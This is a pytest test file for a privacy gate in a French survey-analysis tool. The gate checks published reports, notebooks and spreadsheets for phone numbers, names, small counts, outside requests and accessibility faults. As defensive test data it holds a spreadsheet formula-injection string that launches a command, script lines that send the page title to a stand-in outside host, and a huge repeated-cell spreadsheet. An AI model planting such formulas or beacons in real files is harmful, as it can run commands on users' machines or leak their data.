"""The gate sees what must not leave wherever it hides, says where and never what, and lets a clean report pass."""

from __future__ import annotations

import json
import shutil
import zipfile
from pathlib import Path

import openpyxl
import pytest
from plotly.offline import get_plotlyjs

from psq_analysis.errors import BadInput
from psq_analysis.gate import pages, verify
from support import notebooks_run_here, psq_here

SECRET = "06 39 98 41 52"
PAGE = """<!doctype html>
<html lang="fr"><head><title>Avis des habitants</title><style>p {{ margin: 0 }}</style></head>
<body><h1>Avis des habitants</h1>
<h2>Présence</h2>
{body}
</body></html>"""
TABLE = (
    """<table><caption>{caption}</caption><thead><tr>{headings}</tr></thead><tbody>{rows}</tbody></table>"""
)
CLEAN = [
    "<p>Une patrouille à pied rassure ; [PERSONNE 1] l'a redit au [TÉLÉPHONE 1]. 41 % [36 ; 46] des répondants (n = 204).</p>",
    '<p>Voir https://www.insee.fr/fr/metadonnees et <a href="https://www.insee.fr/">le site</a> : 3 habitants sur 10.</p>',
    '<img alt="Plan du quartier" src="data:image/png;base64,iVBORw0KGgo="><a href="#haut">Haut</a>',
    '<script type="application/json">{"data":[{"x":[0.41,0.36],"hovertext":["Présence<br>41 % [36 ; 46] : 84 sur 204"]}]}</script>',
    "<pre>git clone https://x.example/depot ; url(https://x.example)</pre>",
]


def page(body: str) -> str:
    return PAGE.format(body=body)


def table(headings: list[str], *rows: list[str], caption: str = "Part des répondants") -> str:
    return TABLE.format(
        caption=caption,
        headings="".join(f'<th scope="col">{heading}</th>' for heading in headings),
        rows="".join("<tr>" + "".join(f"<td>{cell}</td>" for cell in row) + "</tr>" for row in rows),
    )


def kinds(folder: Path, **settings: int) -> set[str]:
    return {finding.kind for finding in verify.verify([folder], **settings)}


def in_page(folder: Path, body: str) -> set[str]:
    (folder / "index.html").write_text(page(body), encoding="utf-8")
    return kinds(folder)


@pytest.mark.parametrize("body", CLEAN)
def test_what_a_report_is_made_of_passes(tmp_path, body):
    assert in_page(tmp_path, body) == set()


def test_masked_text_that_masking_would_leave_is_quoted_without_alarm(tmp_path):
    quote = "<blockquote><p>«&nbsp;<bdi>M. [PERSONNE 1] refuse de nous recevoir rue Jean-Jaurès, à Auch.</bdi>&nbsp;»</p></blockquote>"
    assert in_page(tmp_path, quote) == set()


@pytest.mark.parametrize(
    "hidden",
    [
        f"<p>Rappeler au {SECRET}.</p>",
        "<p>Rappeler au <b>06 39</b> 98 <i>41 52</i>.</p>",
        f'<p title="Rappeler au {SECRET}">Rappeler</p>',
        f"<!-- {SECRET} -->",
        "<p>Rappeler au 06&nbsp;39&#32;98&nbsp;41&nbsp;52</p>",
        '<p title="au 06&nbsp;39\u202f98&#160;41\u00a052">Rappeler</p>',
        '<a href="tel:+33639984152">Rappeler</a>',
        f'<script type="application/json">{{"data":[{{"hovertext":["Auch","au {SECRET}"]}}]}}</script>',
        '<script type="application/json">{"layout":{"meta":"au 06\\u00a039\\u00a098\\u00a041\\u00a052"}}</script>',
        f'<style>p::after {{ content: "{SECRET}" }}</style>',
        f"<script>var rappeler = '{SECRET}';</script>",
        f"<svg aria-label='plan'><text>{SECRET}</text></svg>",
    ],
)  # fmt: skip
def test_a_telephone_number_is_found_wherever_it_hides_in_a_page_and_never_quoted(tmp_path, hidden):
    (tmp_path / "index.html").write_text(page(hidden), encoding="utf-8")
    found = verify.verify([tmp_path])
    assert "PHONE" in {finding.kind for finding in found}
    assert not any("39" in finding.line and "98" in finding.line for finding in found)
    assert all(finding.line.startswith("index.html, ligne ") for finding in found)


def test_the_place_of_a_finding_is_its_line_or_its_path_in_the_figure(tmp_path):
    body = f'<p>rien</p>\n<p>{SECRET}</p>\n<script type="application/json">{{"data": [{{"text": ["", "{SECRET}"]}}]}}</script>'
    (tmp_path / "index.html").write_text(page(body), encoding="utf-8")
    assert [finding.line for finding in verify.verify([tmp_path])] == [
        "index.html, ligne 7, data[0].text[1] : numéro de téléphone",
        "index.html, ligne 6 : numéro de téléphone",
    ]


def test_a_notebook_is_read_to_its_metadata(tmp_path):
    cell = {"cell_type": "code", "source": ["x = 1\n"], "metadata": {}, "outputs": [], "execution_count": 1}
    parts = {
        "cellule 1, source": cell | {"source": [f"# {SECRET}\n"]},
        "cellule 1, metadata, auteur": cell | {"metadata": {"auteur": f"au {SECRET}"}},
        "cellule 1, outputs[0].text/html, ligne 1": cell
        | {"outputs": [{"output_type": "display_data", "data": {"text/html": [f"<p>{SECRET}</p>"]}, "metadata": {}}]},
        "cellule 1, outputs[0], text": cell | {"outputs": [{"output_type": "stream", "text": [f"au {SECRET}"]}]},
        "cellule 1, outputs[0].application/vnd.plotly.v1+json, data[0].hovertext[0]": cell
        | {"outputs": [{"output_type": "display_data", "metadata": {},
                        "data": {"application/vnd.plotly.v1+json": {"data": [{"hovertext": [f"au {SECRET}"]}]}}}]},
    }  # fmt: skip
    for place, holding in parts.items():
        notebook = {"cells": [holding], "metadata": {}, "nbformat": 4, "nbformat_minor": 5}
        (tmp_path / "01_clean.ipynb").write_text(json.dumps(notebook), encoding="utf-8")
        assert [finding.line for finding in verify.verify([tmp_path])] == [
            f"01_clean.ipynb, {place} : numéro de téléphone"
        ]
    notebook = {"cells": [cell], "metadata": {"authors": [{"name": "Mme Peyrelongue"}]}, "nbformat": 4}
    (tmp_path / "01_clean.ipynb").write_text(json.dumps(notebook), encoding="utf-8")
    assert [f.line for f in verify.verify([tmp_path])] == [
        "01_clean.ipynb, metadata.authors[0].name : nom de personne"
    ]


def test_a_file_name_that_names_someone_is_found_and_not_repeated(tmp_path):
    (tmp_path / "remontees_Mme_Peyrelongue.txt").write_text("Rien à signaler.", encoding="utf-8")
    (found,) = verify.verify([tmp_path])
    assert "Peyrelongue" not in found.line
    assert found.kind == "PERSON"


@pytest.mark.parametrize(
    ("headings", "row"),
    [
        (["Voix", "Répondants (n)", "En parlent", "Part"], ["Élus", "46", "1", "2 %"]),
        (["Groupe", "Répondants (n)", "En parlent", "Part"], ["Élus", "46", "44", "96 %"]),
        (["Voix", "Répondants (n)"], ["Transports", "7"]),
        (["code", "respondents", "mentions"], ["acces", "10", "0"]),
        (["Groupe", "Contributions"], ["Outre-mer", "3"]),
        (["Sujet", "Idées"], ["Accès", "2"]),
    ],
)
def test_a_small_group_and_one_or_two_of_a_group_are_found_in_pages_json_and_downloads(
    tmp_path, headings, row
):
    assert in_page(tmp_path, table(headings, row)) == {"small_cell"}
    assert {spot.kind for spot in pages.json_spots({"columns": headings, "rows": [row]}, min_cell=11)} == {
        "small_cell"
    }
    records = [dict(zip(headings, row, strict=True))]
    assert {spot.kind for spot in pages.json_spots(records, min_cell=11)} == {"small_cell"}
    (tmp_path / "index.html").unlink()
    (tmp_path / "parts.csv").write_text(
        ";".join(headings) + "\n" + ";".join(row) + "\n", encoding="utf-8-sig"
    )
    assert kinds(tmp_path) == {"small_cell"}
    book = openpyxl.Workbook()
    book.active.append(headings)
    book.active.append([int(cell) if cell.isdigit() else cell for cell in row])
    (tmp_path / "parts.csv").unlink()
    book.save(tmp_path / "parts.xlsx")
    assert kinds(tmp_path) == {"small_cell"}


@pytest.mark.parametrize(
    ("headings", "row"),
    [
        (["Sujet", "Répondants (n)", "En parlent", "Part"], ["Accès", "46", "non publié", "non publié"]),
        (["Sujet", "Répondants (n)", "En parlent", "Part"], ["Accès", "46", "0", "0 %"]),
        (["Voix", "Répondants (n)", "En parlent", "Part"], ["Élus", "46", "4", "9 %"]),
        (["Voix", "Répondants (n)", "En parlent", "Part"], ["Élus", "46", "2 au plus", "au plus 4 %"]),
        (["group", "respondents", "mentions", "edge"], ["élus", "46", "1", "few"]),
        (["group", "respondents", "mentions", "edge"], ["all", "400", "1", ""]),
        (["Fichier", "Reçues", "Gardées", "Écartées"], ["avis.csv", "77", "70", "7"]),
        (["Raison", "Contributions"], ["le fichier ne dit pas où", "1"]),
        (["Sujet", "Groupe A", "Écart"], ["Accès", "Urbain", "4"]),
    ],
)
def test_zeros_withheld_cells_and_counts_of_rows_pass(tmp_path, headings, row):
    assert in_page(tmp_path, table(headings, row)) == set()


def test_a_grid_of_respondents_is_read_by_its_caption(tmp_path):
    grid = table(
        ["Voix", "Urbain", "Rural"],
        ["Élus", "28", "4"],
        caption="Répondants comptés, par voix et par territoire",
    )
    assert in_page(tmp_path, grid) == {"small_cell"}


@pytest.mark.parametrize(
    "sentence",
    [
        "44 % des répondants [19 ; 73], soit 4 sur 9.",
        "Aucun répondant n'en parle [0 ; 29] (n = 9).",
        "« Présence » revient plus souvent : +12 points [2 ; 24] (n = 107 et 8), q = 0,03.",
    ],
)
def test_a_small_count_in_a_sentence_is_found_even_when_only_read_aloud(tmp_path, sentence):
    assert in_page(tmp_path, f"<p>{sentence}</p>") == {"small_cell"}
    assert in_page(tmp_path, f'<p aria-label="{sentence}">Voir</p>') == {"small_cell"}


def test_a_count_over_everyone_is_exact_beside_that_of_those_in_no_campaign(tmp_path):
    headings = ["Sujet", "Groupe", "Répondants (n)", "En parlent"]
    assert in_page(tmp_path, table(headings, ["Accès", "Tous les répondants", "1 066", "2"])) == set()
    assert in_page(tmp_path, table(headings, ["Accès", "Sans réponse organisée", "1 059", "2"])) == {
        "small_cell"
    }
    assert in_page(tmp_path, table(headings, ["Accès", "Tous les répondants", "9", "2"])) == {"small_cell"}


def test_a_hover_text_of_a_small_cell_is_found(tmp_path):
    hover = '{"data":[{"hovertext":["Accès<br>44 % [19 ; 73] : 4 sur 9"]}]}'
    assert in_page(tmp_path, f'<script type="application/json">{hover}</script>') == {"small_cell"}


def test_the_threshold_is_the_one_the_run_was_made_with(tmp_path):
    body = table(["Voix", "Répondants (n)"], ["Transports", "14"])
    assert in_page(tmp_path, body) == set()
    (tmp_path / "manifest.json").write_text('{"parameters": {"min_cell": 20}}', encoding="utf-8")
    assert kinds(tmp_path) == {"small_cell"}


def test_the_commune_never_stands_with_who_the_person_is(tmp_path):
    assert in_page(tmp_path, table(["Commune", "Âge", "Part"], ["Auch", "30-44 ans", "40 %"])) == {"crossing"}


@pytest.mark.parametrize(
    "asking",
    [
        '<img alt="" src="https://x.example/a.png">',
        '<img alt="" src="//x.example/a.png">',
        '<img alt="" src=" ht\ntps:\\\\x.example/a.png">',
        '<img alt="" srcset="a.png 1x, https://x.example/a.png 2x">',
        '<script src="https://cdn.example/plotly.js"></script>',
        '<link rel="stylesheet" href="https://x.example/a.css">',
        '<link rel="preconnect" href="//fonts.example">',
        '<style>@import "https://x.example/a.css";</style>',
        "<style>p { background: url( 'https://x.example/a.png' ) }</style>",
        '<p style="background:url(//x.example/a.png)">x</p>',
        "<script>import('https://x.example/a.mjs')</script>",
        '<script>fetch("https://x.example/?q=" + document.title)</script>',
        '<script type="module">import {a} from "https://x.example/a.mjs"</script>',
        "<script>new Image().src = 'https://x.example/a.gif'</script>",
        '<iframe title="carte" src="https://x.example/"></iframe>',
        '<form action="https://x.example/"><button>Envoyer</button></form>',
        "<svg aria-label=\"x\"><image href='https://x.example/a.png'></image></svg>",
        '<meta http-equiv="refresh" content="0; url=https://x.example/">',
        '<video src="https://x.example/a.mp4"></video>',
        '<object data="https://x.example/a.swf"></object>',
        "<p onclick=\"fetch('https://x.example')\">x</p>",
        '<script type="application/json">{"layout":{"images":[{"source":"https://x.example/a.png"}]}}</script>',
    ],
)
def test_what_a_browser_would_fetch_outside_is_found(tmp_path, asking):
    assert in_page(tmp_path, asking) == {"request"}


@pytest.mark.parametrize(
    ("broken", "kind"),
    [
        (page("").replace(' lang="fr"', ""), "lang"),
        (page("").replace("Avis des habitants</title>", "</title>"), "title"),
        (page("<h1>Encore</h1>"), "h1"),
        (page("<h4>Nuit</h4>"), "heading_order"),
        (page("<h3> </h3>"), "heading_empty"),
        (page(table(["Sujet"], ["Accès"], caption="")), "caption"),
        (page(table(["Sujet", ""], ["Accès", "x"])), "header"),
        (page(table(["Sujet"], ["Accès"]).replace(' scope="col"', "")), "header"),
        (page('<img src="a.png">'), "alt"),
        (page("<figure><p>x</p></figure>"), "alt"),
        (page('<p id="a">x</p><p id="a">y</p>'), "duplicate_id"),
    ],
)
def test_a_page_that_cannot_be_read_without_seeing_it_is_found(tmp_path, broken, kind):
    (tmp_path / "index.html").write_text(broken, encoding="utf-8")
    assert kinds(tmp_path) == {kind}


@pytest.mark.parametrize("cell", ["=1+1", "@SUM(A1)", "+33", "-2+3", "\t=1+1", "=cmd|' /C calc'!A0"])
def test_a_live_formula_in_a_download_is_found_and_a_neutralised_one_passes(tmp_path, cell):
    if not cell.startswith("+33"):
        (tmp_path / "mots.csv").write_text(f'Mot,Part\n"{cell}",0.4\n', encoding="utf-8")
        assert kinds(tmp_path) == {"formula"}
    (tmp_path / "mots.csv").write_text(f'Mot,Écart\n"\'{cell}",-0.4\n', encoding="utf-8")
    assert kinds(tmp_path) == set()


def test_a_workbook_is_read_to_its_hidden_sheets_formulas_and_properties(tmp_path):
    book = openpyxl.Workbook()
    book.active.append(["Mot", "Part"])
    book.active.append(["=1+1", 0.4])
    hidden = book.create_sheet("brouillon")
    hidden.append(["rappeler", SECRET])
    hidden.sheet_state = "hidden"
    book.properties.creator = "Mme Peyrelongue"
    book.save(tmp_path / "tables.xlsx")
    assert kinds(tmp_path) == {"formula", "hidden_sheet", "PHONE", "PERSON"}


def test_an_open_document_is_read_and_what_it_repeats_is_not_unfolded(tmp_path):
    names = 'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0"'
    cells = [["Sujet", "Répondants (n)"], ["Accès", "4"], [SECRET, "40"]]
    rows = "".join(
        "<table:table-row>" + "".join(f"<table:table-cell><text:p>{cell}</text:p></table:table-cell>" for cell in row)
        + '<table:table-cell table:number-columns-repeated="1000000000"/></table:table-row>'
        for row in cells
    )  # fmt: skip
    with zipfile.ZipFile(tmp_path / "tables.ods", "w") as parts:
        parts.writestr("mimetype", "application/vnd.oasis.opendocument.spreadsheet")
        parts.writestr(
            "content.xml",
            f"<office:document-content {names}><table:table>{rows}</table:table></office:document-content>",
        )
    assert kinds(tmp_path) == {"small_cell", "PHONE"}


def test_an_archive_is_opened_and_what_it_repeats_is_said_once(tmp_path):
    (tmp_path / "index.html").write_text(page(f"<p>{SECRET}</p>"), encoding="utf-8")
    with zipfile.ZipFile(tmp_path / "tout.zip", "w") as archive:
        archive.write(tmp_path / "index.html", "tout/index.html")
        archive.writestr("tout/notes.txt", "Mme Peyrelongue")
    assert [finding.line for finding in verify.verify([tmp_path])] == [
        "index.html, ligne 5 : numéro de téléphone",
        "tout.zip, partie tout/notes.txt, ligne 1 : nom de personne",
    ]


@pytest.mark.parametrize(
    ("name", "content", "kind"),
    [
        ("a.doc", b"PK", "unknown_format"),
        ("a.xlsx", b"PK\x03\x04 cut", "unreadable"),
        ("a.zip", b"PK\x03\x04 cut", "unreadable"),
        ("a.json", b"{", "unreadable"),
        ("a.ipynb", b"\xff\xfe\x00", "unreadable"),
    ],
)
def test_what_cannot_be_read_is_not_let_through(tmp_path, name, content, kind):
    (tmp_path / name).write_bytes(content)
    assert kinds(tmp_path) == {kind}


def test_the_drawing_library_is_known_by_its_hash_and_any_other_program_is_read(tmp_path):
    library = get_plotlyjs().replace("</script", "<\\/script")
    assert in_page(tmp_path, f"<script>{library}</script>") == set()
    assert "PHONE" in in_page(tmp_path, f"<script>{library}{' ' * 200}/* {SECRET} */</script>")


def test_the_command_says_one_line_a_finding_and_leaves_with_the_right_code(tmp_path):
    (tmp_path / "index.html").write_text(page("<p>Plus de rondes.</p>"), encoding="utf-8")
    clean = psq_here("verify", tmp_path)
    assert (clean.returncode, clean.stdout) == (0, "Rien à signaler : 1\xa0fichier contrôlé.\n")
    (tmp_path / "index.html").write_text(page(f"<p>{SECRET}</p>"), encoding="utf-8")
    dirty = psq_here("verify", tmp_path)
    assert (dirty.returncode, dirty.stdout) == (1, "index.html, ligne 5 : numéro de téléphone\n")
    absent = psq_here("verify", tmp_path / "absent")
    assert absent.returncode == 2
    assert len(absent.stderr.strip().splitlines()) == 1


def test_an_empty_folder_is_bad_input(tmp_path):
    with pytest.raises(BadInput, match="ne contient aucun fichier"):
        verify.verify([tmp_path])


@pytest.mark.slow
def test_the_sample_passes(sample_run):
    assert verify.verify([sample_run / "reports"]) == []


@pytest.mark.slow
def test_a_run_that_fails_the_gate_is_kept_aside_and_the_previous_publication_stays(project, tmp_path):
    broken = tmp_path / "project"
    shutil.copytree(project / "notebooks", broken / "notebooks")
    shutil.copytree(project / "data/manual", broken / "data/manual")
    shutil.copy(project / "data/raw/results-survey320417.csv", broken / "avis.csv")
    with notebooks_run_here():
        first = psq_here("run", "avis.csv", "--until", "clean", cwd=broken)
    assert first.returncode == 0, first.stderr
    published = {path: path.read_bytes() for path in (broken / "reports/avis").iterdir()}
    notebook = json.loads((broken / "notebooks/01_clean.ipynb").read_text(encoding="utf-8"))
    notebook["cells"][0]["source"] = ["# 1 · De quoi disposons-nous ?\n", "\n", f"Rappeler au {SECRET}.\n"]
    (broken / "notebooks/01_clean.ipynb").write_text(json.dumps(notebook), encoding="utf-8")
    with notebooks_run_here():
        held = psq_here("run", "avis.csv", "--until", "clean", cwd=broken)
    assert held.returncode == 1
    assert held.stdout == ""
    assert "01_clean.html, ligne" in held.stderr
    assert SECRET not in held.stderr
    assert "Traceback" not in held.stderr
    assert {path: path.read_bytes() for path in (broken / "reports/avis").iterdir()} == published
    kept = broken / "reports/avis.retenu"
    assert (kept / "01_clean.html").is_file()
    listed = (kept / "constats.txt").read_text(encoding="utf-8")
    assert set(listed.splitlines()) == {line for line in held.stderr.splitlines() if " : numéro" in line}
    assert SECRET not in listed


def test_a_column_that_lists_people_is_found_whatever_its_heading(tmp_path) -> None:
    lines = ["Pour finir;Avis", *(f"{name};oui" for name in ("Zoé Castéran", "Guy Dupouts", "Inès Vaquié", "Sonia Bégarie", "Loïc Ferran"))]  # fmt: skip
    path = tmp_path / "reponses.csv"
    path.write_text("\n".join(lines), encoding="utf-8")
    assert any(finding.kind == "people" for finding in verify.verify([path]))
    places = ["Commune;Avis", *(f"{name};oui" for name in ("Auch", "Condom", "Pavie", "Eauze", "Saint-Clar"))]
    path.write_text("\n".join(places), encoding="utf-8")
    assert not any(finding.kind == "people" for finding in verify.verify([path]))
